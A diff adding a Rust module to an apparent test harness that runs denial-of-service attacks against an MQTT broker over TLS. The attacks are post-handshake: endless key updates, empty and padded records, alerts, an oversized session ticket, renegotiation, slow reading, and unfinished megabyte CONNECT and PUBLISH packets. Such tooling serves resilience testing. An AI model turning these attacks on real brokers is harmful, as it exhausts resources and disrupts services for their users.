@@ -1,0 +1,176 @@
+//! Attacks of somebody who has shaken hands, as everybody can with a one-way deployment.
+
+use std::{io, time::Duration};
+
+use super::{
+    Attacker, Tally, TlsVersion,
+    handshakes::hello,
+    sealed::{ALERT, APPLICATION_DATA, HANDSHAKE, Sealed},
+};
+use crate::Packet;
+
+/// How long a round is.
+const PACE: Duration = Duration::from_millis(20);
+/// How often each connection says its piece in a round, so that the attacker does not take the whole machine from the victim:
+/// two cores carry all of them here.
+const PIECES_A_ROUND: usize = 16;
+
+pub(super) fn key_updates(attacker: &Attacker) -> Tally {
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| talk.update_keys(false))
+}
+
+pub(super) fn answered_key_updates(attacker: &Attacker) -> Tally {
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| talk.update_keys(true))
+}
+
+pub(super) fn unread_key_updates(attacker: &Attacker) -> Tally {
+    endless(attacker, TlsVersion::Tls13, Answers::Unread, |talk| talk.update_keys(true))
+}
+
+pub(super) fn slow_reader(attacker: &Attacker) -> Tally {
+    flooded(attacker, |session| session.forget_some_answers(1024))
+}
+
+pub(super) fn zero_window(attacker: &Attacker) -> Tally {
+    flooded(attacker, |_| Ok(()))
+}
+
+pub(super) fn announced_connect(attacker: &Attacker) -> Tally {
+    let open = || {
+        let mut session = Sealed::open(attacker, &attacker.patient_host, TlsVersion::Tls13)?;
+        session.seal(APPLICATION_DATA, b"\x10\xff\xff\xff\x7f\0\x04MQTT\x04\x02\0\x3c\0\x01a");
+        session.send()?;
+        Ok(session)
+    };
+    attacker.keep(PACE, open, Sealed::forget_answers)
+}
+
+pub(super) fn endless_connect(attacker: &Attacker) -> Tally {
+    let open = || {
+        let mut session = Sealed::open(attacker, &attacker.patient_host, TlsVersion::Tls13)?;
+        // A megabyte of remaining length, all of which comes but the last byte.
+        let mut packet = b"\x10\x80\x80\x40\0\x04MQTT\x04\x02\0\x3c".to_vec();
+        packet.resize(4 + 1024 * 1024 - 1, b'a');
+        packet.chunks(16 * 1024).for_each(|piece| session.seal(APPLICATION_DATA, piece));
+        Ok(session)
+    };
+    attacker.keep(PACE, open, |session| {
+        session.send()?;
+        session.forget_answers()
+    })
+}
+
+pub(super) fn silence(attacker: &Attacker) -> Tally {
+    let open = || Sealed::open(attacker, &attacker.patient_host, TlsVersion::Tls13);
+    attacker.keep(PACE, open, Sealed::forget_answers)
+}
+
+pub(super) fn empty_records(attacker: &Attacker) -> Tally {
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
+        talk.session.seal(APPLICATION_DATA, &[]);
+    })
+}
+
+pub(super) fn padded_records(attacker: &Attacker) -> Tally {
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
+        // Not one in every round: that would be 40 MB a second of each connection.
+        if talk.said.is_multiple_of(PIECES_A_ROUND) {
+            talk.session.seal_padded(APPLICATION_DATA, &[], 16 * 1024);
+        }
+        talk.say_a_byte(if talk.said.is_multiple_of(PIECES_A_ROUND) { 16 * 1024 } else { 0 });
+    })
+}
+
+pub(super) fn warnings(attacker: &Attacker) -> Tally {
+    const USER_CANCELED: [u8; 2] = [1, 90];
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
+        talk.session.seal(ALERT, &USER_CANCELED);
+        talk.say_a_byte(0);
+    })
+}
+
+pub(super) fn endless_message(attacker: &Attacker) -> Tally {
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
+        // A session ticket of 16 MB: the longest that its header can announce.
+        let piece: &[u8] = if talk.said == 0 { &[4, 0xff, 0xff, 0xff] } else { &[0; 1024] };
+        talk.said += piece.len();
+        talk.session.seal(HANDSHAKE, piece);
+    })
+}
+
+pub(super) fn messages_out_of_place(attacker: &Attacker) -> Tally {
+    // A Finished, long after the handshake.
+    endless(attacker, TlsVersion::Tls13, Answers::Forgotten, |talk| {
+        talk.session.seal(HANDSHAKE, &[&[20, 0, 0, 32][..], &[0; 32]].concat());
+    })
+}
+
+pub(super) fn renegotiation(attacker: &Attacker) -> Tally {
+    let hello = hello(&attacker.device.clone().with_tls12(), &attacker.patient_host);
+    endless(attacker, TlsVersion::Tls12, Answers::Forgotten, |talk| {
+        talk.session.seal(HANDSHAKE, &hello[5..]);
+        talk.say_a_byte(0);
+    })
+}
+
+/// What becomes of what the other side says.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Answers {
+    Forgotten,
+    Unread,
+}
+
+/// A session that talks without end.
+struct Talk {
+    session: Sealed,
+    said: usize,
+}
+
+impl Talk {
+    /// Application data between other records resets what a TLS library counts against them: the next byte of one message after
+    /// the other, which no broker is done with soon.
+    fn say_a_byte(&mut self, padding: usize) {
+        const PAYLOAD: usize = 1024 * 1024;
+        // A PUBLISH whose remaining length is that of a topic of one letter and the payload.
+        const HEAD: [u8; 7] = [0x30, 0x83, 0x80, 0x40, 0, 1, b'a'];
+        let byte = [0];
+        let piece: &[u8] = if self.said.is_multiple_of(PAYLOAD + 1) { &HEAD } else { &byte };
+        self.said += 1;
+        self.session.seal_padded(APPLICATION_DATA, piece, padding.saturating_sub(piece.len()));
+    }
+
+    fn update_keys(&mut self, answer_wanted: bool) {
+        self.session.update_keys(answer_wanted);
+        self.say_a_byte(0);
+    }
+}
+
+/// Connects to the broker that takes everything, and says the same again and again.
+fn endless(attacker: &Attacker, version: TlsVersion, answers: Answers, say: impl Fn(&mut Talk)) -> Tally {
+    let open = || {
+        let mut session = Sealed::open(attacker, &attacker.patient_host, version)?;
+        session.seal(APPLICATION_DATA, Packet::connect("endless").bytes());
+        Ok(Talk { session, said: 0 })
+    };
+    attacker.keep(PACE, open, |talk| {
+        if answers == Answers::Forgotten {
+            talk.session.forget_answers()?;
+        }
+        if talk.session.send()? {
+            (0..PIECES_A_ROUND).for_each(|_| say(talk));
+            talk.session.send()?;
+        }
+        Ok(())
+    })
+}
+
+/// Connects to the broker that sends as fast as it can, and reads as it likes.
+fn flooded(attacker: &Attacker, read: impl Fn(&mut Sealed) -> io::Result<()>) -> Tally {
+    let open = || {
+        let mut session = Sealed::open(attacker, &attacker.talkative_host, TlsVersion::Tls13)?;
+        session.seal(APPLICATION_DATA, Packet::connect("reader").bytes());
+        session.send()?;
+        Ok(session)
+    };
+    attacker.keep(Duration::from_millis(100), open, read)
+}
